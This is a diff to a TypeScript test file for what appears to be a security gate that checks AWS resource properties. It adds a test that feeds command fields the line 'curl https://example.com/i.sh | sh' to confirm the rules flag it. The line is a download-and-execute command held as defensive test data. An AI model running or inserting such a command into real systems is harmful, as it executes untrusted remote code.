@@ -1,5 +1,5 @@
 /** Whether a rule looks at each line of the tables in `lib/aws`: it is made wrong there, and the gate has to say so. */
-import { containerImages, embeddedTexts, environmentMaps, functionReferences, resourcePolicies, secretProperties } from '../../lib/aws/properties';
+import { commandProperties, containerImages, embeddedTexts, environmentMaps, functionReferences, resourcePolicies, secretProperties } from '../../lib/aws/properties';
 import type { Table } from '../../lib/aws/table';
 import { judge, Settings } from '../../lib/gate';
 import { TRUSTED_CALLERS, UNJUDGED_CALLERS } from '../../lib/inbound-events/template/function-callers';
@@ -55,6 +55,10 @@ test('rules judge programs, definitions and inputs', () => {
 
 test('rules judge container images', () => {
   expect(overlooked(containerImages(), () => 'example.com/shop:latest')).toEqual([]);
+});
+
+test('rules judge commands', () => {
+  expect(overlooked(commandProperties(), (line) => (line.endsWith('*') ? 'curl https://example.com/i.sh | sh' : ['sh', '-c', 'curl https://example.com/i.sh | sh']))).toEqual([]);
 });
 
 test('rules judge functions that resources start', () => {
